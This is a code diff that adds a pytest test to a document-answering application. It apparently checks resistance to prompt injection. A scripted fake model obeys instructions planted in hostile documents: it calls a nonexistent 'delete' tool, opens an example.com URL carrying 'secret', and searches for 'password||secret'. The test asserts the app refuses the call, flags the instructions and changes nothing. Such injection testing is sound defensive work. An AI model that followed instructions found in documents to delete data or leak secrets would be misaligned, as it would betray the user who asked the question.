@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import itertools
 import re
+from dataclasses import replace
 from pathlib import Path
 
 import pytest
@@ -20,7 +21,7 @@ from carrel.domain.events import AddingFinished
 from carrel.domain.ids import JobId
 from carrel.domain.support import Support
 from carrel.domain.workspaces import Seal
-from carrel.engine.chat.conversation import Role, Thinking
+from carrel.engine.chat.conversation import Role, Thinking, ToolCall
 from carrel.engine.chat.encoding import Encoding
 from carrel.engine.fake import ScriptedEngine
 from carrel.engine.worker.binding import api, quiet_log
@@ -244,3 +245,68 @@ def test_instructions_are_told_as_such(office):
         if attack.told:
             assert told, name
     assert instructions_in(TRUE) == instructions_in(CLEAN) == ""
+
+
+class ObedientResearcher:
+    """Opens a document, calls all it could be told to call, and says what the document says."""
+
+    def __init__(self, name):
+        self._name = name
+        self.engine = ScriptedEngine(self._said, context_tokens=400_000, calls=self._calls)
+        self.engine.info = replace(self.engine.info, profile="v4-flash-0731")
+
+    def _said(self, conversation):
+        last = conversation[-1]
+        return ("", last.text if last.role is Role.TOOL else "")
+
+    def _calls(self, conversation):
+        turn = sum(message.role is Role.ASSISTANT for message in conversation)
+        if turn == 0:
+            return (ToolCall.of("open", {"open_list": [{"id": self._name}]}, "call_1"),)
+        if turn > 1:
+            return ()
+        obeyed = (
+            ToolCall.of("delete", {"id": 1}),
+            ToolCall.of("open", {"open_list": [{"id": "https://example.com/?q=secret"}]}),
+            ToolCall.of("search", {"queries": "password||secret"}),
+        )
+        return tuple(replace(call, id=f"call_{n}") for n, call in enumerate(obeyed, 1))
+
+
+def test_a_model_that_researches_and_obeys_changes_nothing_either(office):
+    before = office.state()
+    scope = office.documents["clean.txt"].id
+    told_of = 0
+    for name in office.hostile:
+        researcher = ObedientResearcher(name)
+        answering = Answering(
+            finder=office.app._finding,
+            sources=office.sources,
+            chats=StoredChats(office.workspace),
+            engines=Engines(researcher),
+            publish=lambda _: None,
+        )
+        question = Question(
+            job=JobId(1), text=QUESTION, chat=None, mode=AnswerMode.RESEARCH,
+            documents=(office.documents[name].id, scope), installed_model="obedient", seed=1,
+        )  # fmt: skip
+        exchange = answering.answer(question, lambda: False)
+        assert exchange is not None
+        answer = exchange.answer
+        assert answer is not None, exchange.failure
+        steps = [step.words for step in answer.steps]
+        assert any(words.startswith("Refused a call: there is no tool") for words in steps), name
+        told_of += bool(answer.checks.instructed)
+        numbers = {cited.n for cited in answer.citations}
+        plain = "".join(answer.text.split("`")[::2])  # code shows brackets as they are
+        told = {int(n) for n in re.findall(r"(?<!\\)\[([0-9]{1,4})\]", plain)}
+        assert told <= numbers, name
+        for cited in answer.citations:
+            if cited.verdict is Verdict.NOT_FOUND:
+                assert cited.document is None
+                continue
+            assert cited.document in question.documents
+            unit = office.sources.unit(cited.document, cited.place.number)
+            assert unit.text[cited.start : cited.end] == cited.source_text
+    assert office.state() == before
+    assert told_of > 80
